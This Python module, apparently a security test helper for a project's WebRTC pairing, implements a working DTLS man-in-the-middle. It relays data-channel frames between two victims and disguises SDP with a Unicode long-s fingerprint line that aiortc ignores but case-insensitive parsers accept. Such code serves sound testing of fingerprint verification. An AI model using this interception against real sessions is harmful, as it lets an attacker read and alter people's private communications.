"""A man in the middle that ends DTLS on both sides and relays data-channel frames.

What a lying ``volli-signal`` (or whoever carries the pairing codes) can do: answer the
offerer with its own peer connection, offer the answerer another, and forward every
frame between the two "volli" channels.  Each victim then runs DTLS with the attacker.
To talk the SDP-based binding around, the SDP it hands each victim carries, before its
own ``sha-256`` line, an ``a=fingerprint:ſha-256`` line (U+017F case-folds to "s") holding
the *other victim's* real fingerprint: aiortc skips that line and verifies the attacker's
certificate, while a Unicode-aware, case-insensitive parser reads it as the fingerprint.
"""

from __future__ import annotations

import asyncio
import contextlib
import re

from aiortc import RTCDataChannel, RTCPeerConnection, RTCSessionDescription

from volli_nb.net import aiortc_compat
from volli_nb.net.connection import CHANNEL_LABEL

LONG_S = "\u017f"  # LATIN SMALL LETTER LONG S: casefold() and re.I make it "s"


def real_fingerprint(sdp: str) -> str:
    found = re.search(r"^a=fingerprint:sha-256 ([0-9A-F:]+)", sdp, re.M | re.ASCII)
    assert found, "no sha-256 fingerprint line"
    return found.group(1)


def disguise(sdp: str, victim_fingerprint: str) -> str:
    """Put the other victim's fingerprint first, under a hash name aiortc ignores."""
    decoy = f"a=fingerprint:{LONG_S}ha-256 {victim_fingerprint}\r\n"
    return re.sub(r"^(a=fingerprint:sha-256 )", decoy + r"\1", sdp, count=1, flags=re.M)


class DtlsMitm:
    """Two aiortc peers: ``to_offerer`` answers the real offer, ``to_answerer`` makes the
    offer the real answerer sees; frames are forwarded between their channels, in order."""

    def __init__(self) -> None:
        self.to_offerer = RTCPeerConnection()
        self.to_answerer = RTCPeerConnection()
        self.channels: dict[str, RTCDataChannel] = {}
        self.waiting: dict[str, list[bytes | str]] = {"offerer": [], "answerer": []}
        self.relayed = 0
        self._offer_fingerprint = ""

        @self.to_offerer.on("datachannel")
        def _dc(channel: RTCDataChannel) -> None:
            if channel.label == CHANNEL_LABEL:
                self._attach("offerer", channel)

        self._attach("answerer", self.to_answerer.createDataChannel(CHANNEL_LABEL, ordered=True))

    def _attach(self, side: str, channel: RTCDataChannel) -> None:
        other = "answerer" if side == "offerer" else "offerer"
        self.channels[side] = channel

        @channel.on("open")
        def _open() -> None:
            for data in self.waiting[side]:
                channel.send(data)
            self.waiting[side].clear()

        if channel.readyState == "open":  # the answering side gets it already open
            _open()

        @channel.on("message")
        def _message(data: bytes | str) -> None:
            self.relayed += 1
            target = self.channels.get(other)
            if target is not None and target.readyState == "open":
                target.send(data)
            else:
                self.waiting[other].append(data)

    async def intercept_offer(self, offer_sdp: str) -> str:
        """The real offer in, the attacker's offer (disguised) out, for the answerer."""
        self._offer_fingerprint = real_fingerprint(offer_sdp)
        with aiortc_compat.loopback_only():
            await self.to_offerer.setRemoteDescription(
                RTCSessionDescription(sdp=offer_sdp, type="offer")
            )
            await self.to_offerer.setLocalDescription(await self.to_offerer.createAnswer())
            await self.to_answerer.setLocalDescription(await self.to_answerer.createOffer())
        return disguise(self.to_answerer.localDescription.sdp, self._offer_fingerprint)

    async def intercept_answer(self, answer_sdp: str) -> str:
        """The real answer in, the attacker's answer (disguised) out, for the offerer."""
        await self.to_answerer.setRemoteDescription(
            RTCSessionDescription(sdp=answer_sdp, type="answer")
        )
        return disguise(self.to_offerer.localDescription.sdp, real_fingerprint(answer_sdp))

    async def close(self) -> None:
        for pc in (self.to_offerer, self.to_answerer):
            with contextlib.suppress(Exception):
                await asyncio.wait_for(pc.close(), 2.0)
